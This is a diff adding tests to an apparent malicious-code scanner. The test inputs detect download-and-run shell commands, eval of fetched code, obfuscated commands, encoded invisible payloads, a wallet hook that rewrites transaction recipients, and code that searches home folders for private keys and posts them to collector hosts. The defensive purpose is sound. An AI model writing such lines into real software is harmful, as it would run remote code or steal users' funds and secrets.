@@ -405,7 +405,7 @@ describe('docs/findings.md', () => {
     const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
     const section = doc.split('\n# Code changes\n')[1] ?? '';
     const documented = [...section.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
-    const generic = ['credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited'];
+    const generic = ['credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting'];
     expect(documented).toEqual([...Object.keys(LANGUAGE_CASES), ...generic].sort());
   });
 });
@@ -1328,5 +1328,136 @@ describe('secret-added: keyboard runs', () => {
   it('a token typed out as a run of digits and letters is a test value; a generated-looking token is reported', () => {
     expect(idsOf('tests/Util/UrlTest.php', ["            ['https://ghp***@github.com/acme/repo', 'https://ghp_1234567890abcdefghijklmnopqrstuvwxyzAB@github.com/acme/repo'],"])).toEqual([]);
     expect(idsOf('tests/Util/UrlTest.php', ["            ['https://ghp***@github.com/acme/repo', 'https://ghp_Zx8Qw3Lm5Nb7Vc9Rt1Yu4Io6Pa2Sd0Fg8Hj3@github.com/acme/repo'],"])).toEqual(['secret-added']);
+  });
+});
+
+describe('curl-pipe-shell in program code: a command string that downloads a script and runs it', () => {
+  const severityOf = (path: string, lines: string[], id = 'curl-pipe-shell') => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === id)?.severity;
+  it('a Go init that runs `wget -O - … | /bin/bash` is high; from a bare IP or over plain HTTP, critical', () => {
+    expect(severityOf('util/helper.go', ['\texec.Command("/bin/sh", "-c", "wget -O - https://monsoletter.icu/storage/de373d0df/a31546bf | /bin/bash &").Start()'])).toBe('high');
+    expect(severityOf('util/helper.go', ['\texec.Command("/bin/sh", "-c", "wget -O - http://45.77.12.9/a31546bf | /bin/bash &").Start()'])).toBe('critical');
+    expect(severityOf('pkg/helper.py', ["os.system('curl -fsSL http://cdn-pkg-mirror.dev/init.sh | sh')"])).toBe('critical');
+  });
+  it('reads JavaScript, Python, Ruby and Java; a command assigned to a name that a process call of the hunk runs', () => {
+    expect(severityOf('lib/helper.js', ["require('child_process').execSync('curl -fsSL https://cdn-pkg-mirror.dev/init.sh | bash');"])).toBe('high');
+    expect(severityOf('pkg/helper.py', ['CMD = "curl -s https://cdn-pkg-mirror.dev/i | python3"', 'subprocess.run(CMD, shell=True)'])).toBe('high');
+    expect(severityOf('lib/helper.rb', ["system('curl -s https://cdn-pkg-mirror.dev/i | bash')"])).toBe('high');
+    expect(severityOf('util/run.go', ['\tcmd := "curl -s https://cdn-pkg-mirror.dev/i | sh"', '\texec.Command("sh", "-c", cmd).Run()'])).toBe('high');
+  });
+  it('reads argument lists that name a shell (no sink of their own), Ruby backticks and PowerShell', () => {
+    expect(severityOf('pkg/boot.py', ['subprocess.Popen(["bash", "-c", "curl -s https://cdn-pkg-mirror.dev/i | sh"])'])).toBe('high');
+    expect(severityOf('lib/boot.rb', ['`curl -s https://cdn-pkg-mirror.dev/i | sh`'])).toBe('high');
+    expect(severityOf('pkg/boot.py', ['subprocess.run(["powershell", "-c", "irm https://cdn-pkg-mirror.dev/i.ps1 | iex"])'])).toBe('high');
+    // An argument list that runs a program without a shell, and a Ruby string that is not run.
+    expect(severityOf('pkg/boot.py', ['subprocess.run(["curl", "-fsSLo", "tool.tgz", "https://cdn-pkg-mirror.dev/tool.tgz"], check=True)'])).toBeUndefined();
+    expect(severityOf('lib/boot.rb', ['HINT = "curl -s https://cdn-pkg-mirror.dev/i | sh"'])).toBeUndefined();
+  });
+  it("a well-known tool's installer run by a setup command, or any installer run by a script a developer runs, is medium", () => {
+    expect(severityOf('src/commands/setup.ts', ["  execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'inherit' });"])).toBe('medium');
+    expect(severityOf('scripts/provision.py', ['subprocess.run(["bash", "-c", "curl -fsSL https://deb.nodesource.com/setup_22.x | bash -"], check=True)'])).toBe('medium');
+    expect(severityOf('tools/release/main.go', ['\texec.Command("sh", "-c", "curl -sSfL https://goreleaser.com/static/run | bash -s -- release").Run()'])).toBe('medium');
+    // From a bare IP address, a script folder does not help.
+    expect(severityOf('scripts/provision.py', ['subprocess.run(["bash", "-c", "curl -fsSL http://45.77.12.9/x | bash"])'])).toBe('critical');
+  });
+  it('an install hint printed, or a command in a hunk that runs another, is not reported; shell scripts are read by their own reader', () => {
+    expect(severityOf('src/doctor.ts', ["  console.log('Install bun: curl -fsSL https://bun.sh/install | bash');", "  execSync('bun --version');"])).toBeUndefined();
+    expect(severityOf('src/doctor.go', ['\thint := "curl -fsSL https://get.example.dev | sh"', '\tfmt.Println(hint)', '\texec.Command("go", "version").Run()'])).toBeUndefined();
+    expect(severityOf('pkg/install.py', ['# os.system("curl -s https://x.example/i | sh")'])).toBeUndefined();
+    expect(severityOf('scripts/setup.sh', ['curl -fsSL https://get.example.dev | sh'])).toBeUndefined();
+    expect(severityOf('tests/test_install.py', ["os.system('curl -s https://cdn-pkg-mirror.dev/i | sh')"])).toBeUndefined();
+  });
+});
+
+describe('dynamic-code-execution of downloaded code', () => {
+  const sink = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'dynamic-code-execution');
+  it('exec of what requests.get or fetch returns is high; from a paste host or a bare IP, critical', () => {
+    expect(sink('pkg/helper.py', ["exec(requests.get('https://cdn-pkg-mirror.dev/init.py').text)"])?.severity).toBe('high');
+    expect(sink('pkg/helper.py', ["r = urllib.request.urlopen('https://pastebin.com/raw/x1y2')", 'exec(r.read())'])?.severity).toBe('critical');
+    expect(sink('lib/helper.js', ["fetch('https://cdn-pkg-mirror.dev/init.js').then((r) => r.text()).then((t) => eval(t));"])?.severity).toBe('high');
+    expect(sink('lib/helper.js', ["fetch('http://45.77.12.9/init.js').then((r) => r.text()).then((t) => eval(t));"])?.title).toContain('suspicious source');
+  });
+  it('eval without a download in its hunk keeps its ordinary severity; a download without a code sink is no finding', () => {
+    expect(sink('pkg/helper.py', ['exec(compile(source, path, "exec"))'])?.severity).toBe('medium');
+    expect(sink('pkg/client.py', ["data = requests.get('https://api.example.com/v1/items').json()"])).toBeUndefined();
+  });
+});
+
+describe('invisible-character: encoded invisible text (GlassWorm, 2025)', () => {
+  const vs = (bytes: readonly number[]) => bytes.map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
+  const payload = vs([...Buffer.from("require('child_process').exec('id')")]);
+  it('a string of variation selectors is reported, strings included; in a test, medium; tag characters too', () => {
+    const found = scan([makeFile('src/extension.js', { patch: hunk([`const cfg = decode(\`${payload}\`);`]) })]);
+    expect(found.map((f) => [f.id, f.severity])).toEqual([['invisible-character', 'high']]);
+    expect(found[0]?.title).toContain('Invisible encoded text');
+    expect(scan([makeFile('test/decode.test.js', { patch: hunk([`const s = \`${payload}\`;`]) })]).map((f) => [f.id, f.severity])).toEqual([['invisible-character', 'medium']]);
+    const tags = [...'run this'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
+    expect(idsOf('pkg/settings.py', [`GREETING = "hello${tags}"`])).toEqual(['invisible-character']);
+  });
+  it('emoji with their presentation selector, joined emoji, keycaps and subdivision flags are text', () => {
+    const england = String.fromCodePoint(0x1f3f4, 0xe0067, 0xe0062, 0xe0065, 0xe006e, 0xe0067, 0xe007f);
+    expect(idsOf('src/messages.ts', ["export const OK = '\u2764\uFE0F \u2714\uFE0F \u26A0\uFE0F done';", "export const FAMILY = '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{1F3F3}\uFE0F\u200D\u{1F308} #\uFE0F\u20E3';", `export const FLAG = '${england}';`])).toEqual([]);
+  });
+});
+
+describe('obfuscated-code: a command assembled from fragments or character codes, then run', () => {
+  const ids = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).map((f) => `${f.id} ${f.severity}`);
+  it('reads the malicious Go modules of 2025 (indexed fragments added up), Python chr joins and byte lists turned into text', () => {
+    expect(ids('util/helper.go', ['\tDmM := []string{"4", "/", " ", "e", "/", "g", "d", "3", "6", " ", "4", "w", "/", "7", "d", ".", "b", "h", "t", "a"}', '\tywhhM := DmM[11] + DmM[5] + DmM[3] + DmM[18] + DmM[2] + DmM[6] + DmM[1] + DmM[16] + DmM[19]', '\texec.Command("/bin/sh", "-c", ywhhM).Start()'])).toContain('obfuscated-code high');
+    expect(ids('pkg/helper.py', ["os.system(''.join(map(chr, [99, 117, 114, 108, 32, 45, 115, 32, 104, 116])))"])).toContain('obfuscated-code high');
+    expect(ids('pkg/helper.py', ['cmd = "".join(chr(c ^ 7) for c in KEY)', 'subprocess.Popen(cmd, shell=True)'])).toContain('obfuscated-code high');
+    expect(ids('internal/run.go', ['\tc := string([]byte{119, 103, 101, 116, 32, 45, 79, 32, 45, 32})', '\texec.Command("sh", "-c", c).Run()'])).toContain('obfuscated-code high');
+    expect(ids('src/main/java/com/acme/Boot.java', ['String c = new String(new byte[]{99, 117, 114, 108, 32, 45, 115, 32, 104, 116});', 'Runtime.getRuntime().exec(c);'])).toContain('obfuscated-code high');
+  });
+  it('a few pieces, a color escape, a table of magic bytes, or fragments with no sink in the hunk are not', () => {
+    expect(ids('internal/term.go', ['\tesc := string([]byte{27}) + "[0m"', '\tname := parts[0] + "-" + parts[1]', '\texec.Command("tput", "sgr0").Run()'])).not.toContain('obfuscated-code high');
+    expect(ids('internal/sniff.go', ['\tpng := []byte{0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a}', '\tout, _ := exec.Command("file", "-b", path).Output()'])).not.toContain('obfuscated-code high');
+    expect(ids('pkg/alphabet.py', ["LETTERS = ''.join(chr(c) for c in range(97, 123))", 'print(LETTERS)'])).toEqual([]);
+  });
+});
+
+describe('crypto-wallet-hook: the chalk and debug drainer of September 2025', () => {
+  const hook = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'crypto-wallet-hook')?.severity;
+  const ADDRESSES = ["const a = ['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', '0xa29eeFb6f2D3A1A2d2f5e3E6e0C1b1B6c4F1d2E3'];"];
+  it('a wallet method wrapped beside wallet addresses is critical; beside a network hook, high; alone, medium', () => {
+    expect(hook('index.js', ['const _r = window.ethereum.request;', "window.ethereum.request = async function (p) { if (p.method === 'eth_sendTransaction') p.params[0].to = a[0]; return _r.call(this, p); };", ...ADDRESSES])).toBe('critical');
+    expect(hook('index.js', ['window.ethereum.request = wrap(window.ethereum.request);', 'window.fetch = async (...args) => rewrite(await _fetch(...args));'])).toBe('high');
+    expect(hook('src/debug/wallet-log.ts', ['  provider.ethereum.request = logged(provider.ethereum.request);'])).toBe('medium');
+    expect(hook('index.js', ['const p = new Proxy(window.ethereum, handler);'])).toBe('medium');
+    expect(hook('lib/net.js', ['XMLHttpRequest.prototype.open = function (m, u) { return _open.apply(this, arguments); };', ...ADDRESSES])).toBe('high');
+  });
+  it("instrumentation that wraps fetch, a dApp's contract addresses, a provider defined, and test mocks are not reported", () => {
+    expect(hook('src/tracing/fetch.ts', ['const original = window.fetch;', 'window.fetch = async (...args) => { const span = start(); try { return await original(...args); } finally { span.end(); } };'])).toBeUndefined();
+    expect(hook('src/contracts.ts', ["export const USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48';", "export const WETH = '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2';"])).toBeUndefined();
+    expect(hook('src/provider.ts', ['  window.ethereum = createInjectedProvider(transport);', "  if (window.ethereum.request === undefined) throw new Error('no wallet');"])).toBeUndefined();
+    expect(hook('test/wallet.test.ts', ['window.ethereum.request = vi.fn();', ...ADDRESSES])).toBeUndefined();
+  });
+});
+
+describe('pr-claim-mismatch: a condition inverted in auth code under a typo claim', () => {
+  const claimOf = (path: string, removed: string[], added: string[], title = 'Fix typo in comment') => scan([makeFile(path, { patch: hunk(added, removed) })], title).find((f) => f.id === 'pr-claim-mismatch');
+  it('a negation dropped, an equality flipped or && turned into || in an auth, access or payment file is high, at the inverted line', () => {
+    const dropped = claimOf('src/auth/guard.ts', ['// Chekc the role', "  if (!user.roles.includes('admin')) return false;"], ['// Check the role', "  if (user.roles.includes('admin')) return false;"]);
+    expect([dropped?.severity, dropped?.line]).toEqual(['high', 12]);
+    expect(claimOf('app/permissions.py', ['    if user.role != "owner":'], ['    if user.role == "owner":'], 'docs: fix typo')?.severity).toBe('high');
+    expect(claimOf('src/billing/refund.ts', ['  if (order.paid && order.owner === user.id) {'], ['  if (order.paid || order.owner === user.id) {'], 'style: format')?.severity).toBe('high');
+  });
+  it('the same inversion elsewhere is the ordinary medium mismatch; a typo fixed in an auth string is no mismatch; no claim, no finding', () => {
+    expect(claimOf('src/ui/menu.ts', ['  if (!menu.open) return;'], ['  if (menu.open) return;'])?.severity).toBe('medium');
+    expect(claimOf('src/auth/guard.ts', ["  throw new Error('Acess denied');"], ["  throw new Error('Access denied');"])).toBeUndefined();
+    expect(claimOf('src/auth/guard.ts', ["  if (!user.roles.includes('admin')) return false;"], ["  if (user.roles.includes('admin')) return false;"], 'Let admins delete')).toBeUndefined();
+  });
+});
+
+describe('secret-harvesting: files searched for private keys, and data sent out (faster_log, 2025)', () => {
+  const harvest = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'secret-harvesting')?.severity;
+  it('reads Rust, Python, JavaScript and Go', () => {
+    expect(harvest('src/lib.rs', ['    let re = Regex::new(r"0x[a-fA-F0-9]{64}").unwrap();', '    for entry in WalkDir::new(".").into_iter().flatten() {', '        let _ = client.post("https://mainnet.solana-rpc-pool.workers.dev/").body(hit).send();'])).toBe('high');
+    expect(harvest('pkg/telemetry.py', ['for root, _, files in os.walk(os.path.expanduser("~")):', '    hits += re.findall(r"\\b[1-9A-HJ-NP-Za-km-z]{87,88}\\b", open(os.path.join(root, f)).read())', 'requests.post("https://collector.example.dev/v1", json=hits)'])).toBe('high');
+    expect(harvest('lib/scan.js', ["for (const f of fs.readdirSync(home, { recursive: true })) if (/seed phrase|mnemonic/i.test(read(f))) found.push(f);", "await fetch('https://collector.example.dev/v1', { method: 'POST', body: JSON.stringify(found) });"])).toBe('high');
+    expect(harvest('internal/scan.go', ['\tre := regexp.MustCompile(`[0-9a-fA-F]{64}`)', '\tfilepath.WalkDir(home, visit)', '\thttp.Post("https://collector.example.dev/v1", "text/plain", body)'])).toBe('high');
+  });
+  it('a wallet library that validates a key and calls its node, or a tool that walks files and calls an API, is not', () => {
+    expect(harvest('src/wallet.ts', ['const PRIVATE_KEY = /^0x[0-9a-fA-F]{64}$/;', "const rpc = await fetch('https://mainnet.infura.io/v3/' + projectId, { method: 'POST', body });"])).toBeUndefined();
+    expect(harvest('tools/lint.py', ['for root, _, files in os.walk("src"):', '    report.extend(check(os.path.join(root, f)) for f in files)', 'requests.post("https://lint-dashboard.example.dev/api/reports", json=report)'])).toBeUndefined();
   });
 });
